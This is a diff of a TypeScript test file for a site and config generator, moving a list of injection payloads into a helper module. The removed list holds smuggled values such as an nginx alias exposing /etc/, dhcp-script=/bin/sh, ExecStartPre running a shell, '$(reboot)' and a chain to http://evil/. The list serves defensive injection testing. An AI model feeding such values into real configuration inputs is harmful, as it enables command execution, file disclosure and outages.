@@ -13,28 +13,10 @@ import { NO_SOURCE } from '../src/load/index.ts';
 import { renderSite } from '../src/render/index.ts';
 import { tempDir } from './helpers/tmp.ts';
 import { exampleSite } from './helpers/example.ts';
+import { PAYLOADS } from './helpers/payloads.ts';
 
 const repo = resolve(import.meta.dirname, '..');
 const base = exampleSite() as Record<string, unknown>;
-
-/** Payloads that would change the structure of some generated file. */
-export const PAYLOADS = [
-  '/srv/x;\n location /leak/ { alias /etc/; }',
-  '/srv/x; location /leak/ { alias /etc/; }',
-  'eth0\ndhcp-script=/bin/sh',
-  '0.0.0.0\nExecStartPre=/bin/sh -c id',
-  'a || shell',
-  'x ; chain http://evil/',
-  '${net0/mac}',
-  '$(reboot)',
-  "'; reboot; '",
-  '#comment',
-  'a"b',
-  'x\u2028y',
-  'a\\',
-  'http://10.0.0.1/a#{;}',
-  '--help',
-];
 
 /** Every inventory field whose value reaches a generated file verbatim, as [path, where to set it]. */
 const FIELDS: (string | number)[][] = [
